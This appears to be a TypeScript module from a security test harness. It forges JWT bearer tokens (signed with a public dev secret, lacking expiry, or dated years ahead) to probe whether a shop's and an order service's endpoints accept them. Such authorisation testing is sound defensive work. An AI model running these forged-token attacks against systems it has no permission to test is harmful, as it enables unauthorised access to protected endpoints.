import { type Attack, type AttackContext, type Finding, need } from "./attack.ts";
import { describeAnswer } from "./describe.ts";
import { send } from "./http-probe.ts";
import { PUBLIC_DEV_SECRET, signHs256 } from "./tokens.ts";

const JSON_TYPE = { "content-type": "application/json" };
const nowS = () => Math.floor(Date.now() / 1000);
const THREE_YEARS_S = 3 * 365 * 24 * 3600;

async function postJson(url: string, token: string, body: unknown, source: string): Promise<Finding> {
  const a = await send({
    url,
    method: "POST",
    headers: { ...JSON_TYPE, authorization: `Bearer ${token}` },
    body: JSON.stringify(body),
    localAddress: source,
    limitMs: 10_000,
  });
  // A 2xx here is the attack succeeding: say so in words, not only in a number.
  const verdict = a.status !== undefined && a.status < 300 ? " (accepted: the token worked)" : "";
  return { answer: `${describeAnswer(a)}${verdict}`, ms: a.ms };
}

export const devSecretServiceToken: Attack = {
  id: "3",
  title: "service token signed with the public dev secret, no exp, to MES POST /orders",
  limitMs: 15_000,
  run(ctx) {
    const token = signHs256({ sub: "shop", role: "service", iat: nowS() }, PUBLIC_DEV_SECRET);
    const order = { customerId: 1, items: [{ productId: 1, productName: "x", quantity: 1, unitPriceCents: 1 }] };
    return postJson(`${ctx.targets.mes}/orders`, token, order, ctx.source("3"));
  },
};

/** A manager's product creation with a token of these claims, signed with the target's own secret. */
function managerWith(ctx: AttackContext, claims: Record<string, unknown>, who: string): Promise<Finding> {
  const token = signHs256({ sub: "manager-attack", role: "manager", ...claims }, need(ctx.secret, "--secret"));
  const product = { name: `attack ${who}`, category: "attack", material: "PLA", priceCents: 1 };
  return postJson(`${ctx.targets.shop}/products`, token, product, ctx.source(who));
}

const needsSecret = (ctx: AttackContext) => (ctx.secret ? undefined : "needs --secret (the target's AUTH_SECRET)");

export const tokenWithoutExp: Attack = {
  id: "4a",
  title: "manager token without exp (target's secret) to Shop POST /products",
  limitMs: 15_000,
  missing: needsSecret,
  run: (ctx) => managerWith(ctx, { iat: nowS() }, "4a"),
};

export const tokenFromTheFuture: Attack = {
  id: "4b",
  title: "manager token with iat 3 years ahead, exp 1 h after it (target's secret) to Shop POST /products",
  limitMs: 15_000,
  missing: needsSecret,
  run(ctx) {
    const iat = nowS() + THREE_YEARS_S;
    return managerWith(ctx, { iat, exp: iat + 3600 }, "4b");
  },
};
